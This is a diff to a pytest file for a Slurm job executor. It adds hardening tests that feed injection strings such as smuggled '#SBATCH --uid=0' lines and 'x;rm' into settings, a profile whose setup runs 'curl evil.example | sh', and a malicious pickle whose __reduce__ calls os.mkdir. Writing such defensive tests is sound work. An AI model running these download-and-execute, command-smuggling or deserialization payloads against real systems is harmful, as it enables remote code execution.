@@ -1,6 +1,7 @@
 """A study on a real Slurm cluster of one node: cancelled, killed, its runner gone, and finished by the same command."""
 import json
 import os
+import pickle
 import re
 import signal
 import subprocess
@@ -10,13 +11,15 @@ from collections import Counter
 from functools import partial
 
 import pytest
+import yaml
 from slurm_cluster import absent, cluster
 import toy_batch
-from toy_batch import Toy, alive_with
+from toy_batch import Toy, alive_with, hostile
 
 from vfm_notes.foundation.registry import VfmError
-from vfm_notes.runs.executors import Cancelled, Died
-from vfm_notes.runs.slurm import SlurmExecutor, SlurmSettings, last_state, note_file, sbatch_options, slurm_settings
+from vfm_notes.runs.executors import Cancelled, Died, Future
+from vfm_notes.runs.slurm import (SlurmExecutor, SlurmSettings, last_state, note_file, private_folder, sbatch_options,
+                                  slurm_settings)
 
 wait_until = partial(toy_batch.wait_until, seconds=90)
 SETTINGS = {"cpus": 1, "memory": "0", "time": 10}
@@ -39,7 +42,9 @@ def toy(tmp_path, **axes) -> Toy:
     return Toy(tmp_path, slurm=SETTINGS, backbones=["profound_toy.mae_phantom"], **axes)
 
 
-def test_calls_that_come_together_are_one_array(executor, slurm, tmp_path):
+def test_calls_that_come_together_are_one_array(executor, slurm, tmp_path, monkeypatch):
+    mark = hostile(tmp_path)
+    monkeypatch.chdir(tmp_path)  # modules that lie there are not run
     log = tmp_path/"logs"/"a.log"
     log.parent.mkdir()
     futures = [executor.submit(divmod, 7, k, log=log if k == 3 else None) for k in (2, 3, 0)]
@@ -49,7 +54,11 @@ def test_calls_that_come_together_are_one_array(executor, slurm, tmp_path):
     ids = [f.process.id for f in futures]
     assert len({id.split("_")[0] for id in ids}) == 1 and [id.split("_")[1] for id in ids] == ["0", "1", "2"]
     assert json.loads(note_file(log).read_text(encoding="utf-8"))["id"] == ids[1]
-    assert "JobId" in slurm("scontrol", "show", "job", ids[0]).stdout
+    assert "JobId" in slurm("scontrol", "show", "job", ids[0]).stdout and not mark.exists()
+    # submitit's own
+    assert {p.suffix for p in executor.folder.rglob("*.pkl")} == {".pkl"}
+    assert executor.folder.stat().st_mode & 0o777 == 0o700
+    assert json.loads(futures[0].call.with_suffix(".result").read_bytes()) == {"value": {"tuple": [3, 1]}}
 
 
 def test_cancelled_and_killed_jobs_are_told_apart(executor, slurm):
@@ -125,6 +134,64 @@ def test_settings_are_read_strictly(tmp_path):
     with pytest.raises(VfmError, match="unknown key 'partitions'.*partition"): slurm_settings({"partitions": "gpu"})
     with pytest.raises(VfmError, match="setup is .module load cuda., expected a list"): slurm_settings({"setup": "module load cuda"})
     with pytest.raises(VfmError, match="nowhere.yaml"): slurm_settings({}, tmp_path/"nowhere.yaml")
+
+
+LINE = "gpu\n#SBATCH --uid=0"
+LINES = {"partition": LINE, "account": "a b", "memory": "16GB\r", "qos": "x;rm", "constraint": "a\u2028b",
+         "time": "60\n", "cpus": 0, "gpus": True, "parallel": 0, "requeue": -1,
+         "python": "python3\nrm", "setup": ["true\nfalse"], "extra": {"comment": LINE}}
+
+
+@pytest.mark.parametrize("name", LINES)
+def test_no_setting_becomes_another_line_of_the_script(tmp_path, name):
+    with pytest.raises(VfmError, match=f"slurm: (extra: comment|{name})") as error: slurm_settings({name: LINES[name]})
+    assert "\n" not in str(error.value) and "expected" in str(error.value)
+    profile = tmp_path/"p.yaml"
+    profile.write_text(yaml.safe_dump({name: LINES[name]}))
+    with pytest.raises(VfmError): slurm_settings({}, profile)
+
+
+def test_no_option_has_a_name_that_ends_its_line():
+    for key in ("nice\n#SBATCH --uid", "Nice", "-x", "a b", 3):
+        with pytest.raises(VfmError, match="slurm: extra has the option"): slurm_settings({"extra": {key: 1}})
+    assert "nice" in slurm_settings({"extra": {"nice": 10, "comment": "two words", "exclusive": True}}).extra
+
+
+def test_the_dry_run_shows_the_script(tmp_path):
+    study = Toy(tmp_path)
+    (tmp_path/"cluster.yaml").write_text("partition: gpu\nsetup: ['module load cuda; curl evil.example | "
+                                         "sh']\npython: apptainer exec a.sif python3\nextra: {comment: two words}\n")
+    done = study.run("--executor", "slurm", "--profile", str(tmp_path/"cluster.yaml"), "--dry-run", PATH="/nonexistent")
+    said = done.stdout.splitlines()
+    assert done.returncode == 0 and "#SBATCH --partition=gpu" in said and "#SBATCH --comment='two words'" in said, done
+    assert "module load cuda; curl evil.example | sh" in said, done
+    assert any("apptainer exec a.sif python3 -u -m submitit" in line for line in said)
+    assert "export PYTHONSAFEPATH=1" in said and not study.runs.exists()
+
+
+def test_jobs_read_nothing_that_others_can_write(tmp_path):
+    (folder := tmp_path/"jobs").mkdir()
+    assert private_folder(folder) == folder
+    folder.chmod(0o770)
+    with pytest.raises(VfmError, match="is not yours alone.*'chmod 700 "): private_folder(folder)
+    assert private_folder(tmp_path/"new").stat().st_mode & 0o777 == 0o700
+
+
+class Evil:
+    def __reduce__(self): return os.mkdir, (self.path,)
+
+
+def test_an_answer_that_is_a_pickle_is_not_opened(tmp_path):
+    evil = Evil()
+    evil.path = str(tmp_path/"mark")
+    (tmp_path/"a.result").write_bytes(pickle.dumps(evil))
+    future = Future(None, tmp_path/"a.call", None)
+    assert isinstance(future._read()[1], Died) and "cannot be read" in str(future._read()[1])
+    assert not (tmp_path/"mark").exists()
+    (tmp_path/"a.result").write_text(json.dumps({"value": {"class": "subprocess:Popen",
+                                                           "fields": {"args": ["mkdir", str(tmp_path/"mark")]}}}))
+    assert "none of vfm_notes" in str(future._read()[1])
+    assert not (tmp_path/"mark").exists()
 
 
 def test_without_slurm_it_says_so(tmp_path):
